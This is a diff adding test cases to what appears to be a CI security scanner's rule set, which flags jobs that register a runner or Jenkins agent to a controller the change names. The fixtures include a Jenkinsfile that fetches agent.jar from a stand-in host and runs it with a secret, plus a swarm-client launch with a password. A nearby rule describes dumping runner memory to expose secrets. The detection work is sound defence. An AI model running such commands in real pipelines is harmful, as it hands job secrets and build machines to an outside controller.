@@ -300,6 +300,12 @@ var registry = []Rule{
 		"a runner registered from a job takes later jobs, secrets included, onto a machine the change controls", []Case{
 			{"x.sh", "./config.sh --url https://github.com/o/r --token $T --unattended", 0, false},
 			{"x.sh", "export RUNNER_ALLOW_RUNASROOT=1", 0, false},
+			// Jenkins' inbound agent connected to a controller the change names.
+			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('w') {\n      steps {\n        sh '''\n          curl -fsSLO https://ci.x.invalid/jnlpJars/agent.jar\n          nohup java -jar agent.jar \\\n            -url https://ci.x.invalid/ \\\n            -secret \"$S\" -name w &\n        '''\n      }\n    }\n  }\n}", 8, false},
+			{"tools/agent.py", "subprocess.Popen(['java', '-jar', 'swarm-client.jar', '-master', 'https://ci.x.invalid', '-password', pw])", 0, false},
+			// An application's jar, or Jenkins' command-line client, is no agent.
+			{"x.sh", "java -jar build/libs/app.jar --url http://localhost:8080 --secret-file s.txt", 0, true},
+			{"x.sh", "java -jar jenkins-cli.jar -s https://ci.x.invalid/ -auth @creds build deploy", 0, true},
 		}},
 	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
 		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
